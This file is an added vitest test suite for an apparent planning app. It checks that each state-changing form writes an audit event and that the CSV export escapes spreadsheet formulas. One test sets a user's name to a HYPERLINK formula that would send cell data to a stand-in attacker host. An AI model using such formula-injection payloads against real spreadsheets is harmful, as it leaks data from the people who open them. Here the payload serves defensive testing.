@@ -1,0 +1,125 @@
+/**
+ * The audit trail records every change: every form the app shows, sent as a person would, that
+ * changes the store must leave an event saying who, when, what, and the record before and after.
+ * (The file imports record theirs too: test/integration/import and api/workspace.)
+ */
+import { parse } from 'csv-parse/sync'
+import { describe, expect, it } from 'vitest'
+import type { Database } from '../../../src/db/open.ts'
+import { listAudit } from '../../../src/db/repos/audit.ts'
+import { spreadsheetSafe } from '../../../src/web/http/spreadsheet.ts'
+import { readForms } from '../../fuzz/harness.ts'
+import { postForm, TODAY } from '../../helpers/web.ts'
+import { pageForms, routeWorld, typedInto } from './fixtures.ts'
+
+/** Everything the store holds but sessions (every request touches them) and the trail itself. */
+function content(db: Database): string {
+  const tables = db
+    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
+    .pluck()
+    .all() as string[]
+  return tables
+    .filter((name) => !['sessions', 'audit_events', 'store_revision'].includes(name))
+    .map((name) => JSON.stringify(db.prepare(`SELECT * FROM "${name}"`).all()))
+    .join('\n')
+}
+
+/** The registered route ("POST /users/:id/role") a request path is answered by. */
+function routeOf(routes: string[], path: string): string {
+  const key = routes.find((k) => {
+    const [method, pattern] = k.split(' ') as [string, string]
+    const re = pattern.replace(/:\w+\{([^}]*)\}/g, '($1)').replace(/:\w+/g, '[^/]+')
+    return method === 'POST' && new RegExp(`^${re}$`).test(path)
+  })
+  return key ?? `POST ${path}`
+}
+
+/** Actions whose record is a secret: who reset whose password is kept, the password never. */
+const NO_VALUES = new Set(['user.password_reset'])
+
+describe('the audit trail', () => {
+  it('records who, when, what, before and after for every form that changes the store', async () => {
+    const { t, routes } = await routeWorld()
+    const admin = t.as('admin')
+    const adminId = t.user('admin').id
+    const forms = await pageForms(t)
+    const audited = new Set<string>()
+    const wrong: string[] = []
+    const done = new Set<string>()
+    for (const { page, action } of forms) {
+      if (done.has(action) || action.endsWith('/logout')) continue
+      done.add(action)
+      // the form as it stands now: earlier saves move versions on
+      const html = await (await t.get(page, 'admin')).text()
+      const form = readForms(html).find((f) => f.action === action)
+      if (!form) continue
+      const before = content(t.db)
+      const last = listAudit(t.db, {}, 1)[0]?.id ?? 0
+      await postForm(t.app, action, new URLSearchParams(typedInto(action, form.body)), admin)
+      if (content(t.db) === before) continue
+      const route = routeOf(routes, action)
+      const events = listAudit(t.db).filter((e) => e.id > last)
+      if (events.length === 0) wrong.push(`${route}: changed the store, no audit event`)
+      for (const e of events) {
+        if (e.userId !== adminId) wrong.push(`${route}: ${e.action} names user ${e.userId}`)
+        if (e.at !== TODAY.toISOString()) wrong.push(`${route}: ${e.action} at ${e.at}`)
+        if (!e.entityType || !e.entityId) wrong.push(`${route}: ${e.action} names no record`)
+        if (!NO_VALUES.has(e.action) && e.before === null && e.after === null) {
+          wrong.push(`${route}: ${e.action} has neither before nor after`)
+        }
+      }
+      audited.add(route)
+    }
+    expect(wrong).toEqual([])
+    expect([...audited].sort()).toEqual([
+      'POST /approvals/:id/decide',
+      'POST /assumptions/:planId',
+      'POST /bands/:bandId',
+      'POST /positions',
+      'POST /positions/:id',
+      'POST /rates/:setId',
+      'POST /recruiting/loops/:loopId',
+      'POST /recruiting/pools/:poolId',
+      'POST /recruiting/roles/:id',
+      'POST /recruiting/settings',
+      'POST /scenarios',
+      'POST /scenarios/:id/:edit{roles|add|remove|assumptions}',
+      'POST /tokens',
+      'POST /users',
+      'POST /users/:id/:change{disable|enable}',
+      'POST /users/:id/password',
+      'POST /users/:id/role',
+    ])
+  })
+})
+
+describe('the audit CSV', () => {
+  it('writes typed text that a spreadsheet would run as a formula with a leading apostrophe', () => {
+    for (const formula of ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1']) {
+      expect(spreadsheetSafe(formula)).toBe(`'${formula}`)
+    }
+    for (const text of ['Grace Whitfield', '2027-01-15T12:00:00.000Z', '{"title":"=1"}', '']) {
+      expect(spreadsheetSafe(text)).toBe(text)
+    }
+  })
+
+  it('downloads a change by a person named like a formula with the name made text', async () => {
+    const { t } = await routeWorld()
+    const admin = t.user('admin')
+    const name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    t.db.prepare('UPDATE users SET name = ? WHERE id = ?').run(name, admin.id)
+    const res = await postForm(t.app, '/scenarios', { name: '@SUM(A1:A9)' }, t.as('admin'))
+    expect(res.status).toBe(303)
+    const csv = await (await t.get('/audit.csv', 'admin')).text()
+    const [header, newest] = parse(csv) as string[][]
+    const cell = (column: string) => newest![header!.indexOf(column)]
+    expect(cell('action')).toBe('scenario.create')
+    expect(cell('who')).toBe(`'${name}`)
+    // JSON cells start with a brace: the typed name inside cannot start a formula
+    expect(cell('after')).toMatch(/^\{.*"@SUM\(A1:A9\)"/)
+    // every cell of every row is safe
+    for (const row of parse(csv) as string[][]) {
+      for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/)
+    }
+  })
+})
